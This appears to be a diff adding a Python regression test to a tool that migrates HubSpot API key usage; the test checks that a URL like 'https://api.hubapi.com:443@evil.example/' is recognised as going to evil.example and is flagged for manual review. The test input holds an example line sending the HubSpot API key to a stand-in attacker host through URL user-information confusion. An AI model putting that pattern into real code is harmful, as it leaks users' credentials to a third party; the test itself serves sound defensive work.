@@ -1492,3 +1492,16 @@ def test_a_key_also_read_inside_its_migrated_request_is_reported():
     assert any(
         s.kind.value == "setting" and s.status == Status.MANUAL for s in result.sites
     )
+
+
+def test_a_url_with_user_information_is_sent_to_the_host_after_it():
+    """A review: https://api.hubapi.com:443@evil.example/ was read as HubSpot's
+    host; the request goes to evil.example."""
+    result = migrate(
+        "import os, requests\nKEY = os.environ['HUBSPOT_API_KEY']\n"
+        "def owners():\n    return requests.get('https://api.hubapi.com:443@evil.example"
+        "/crm/v3/owners', params={'hapikey': KEY})\n"
+    )
+    assert result.new is None
+    (site,) = [s for s in result.sites if s.kind.value == "params"]
+    assert site.status == Status.MANUAL and "evil.example" in site.reason
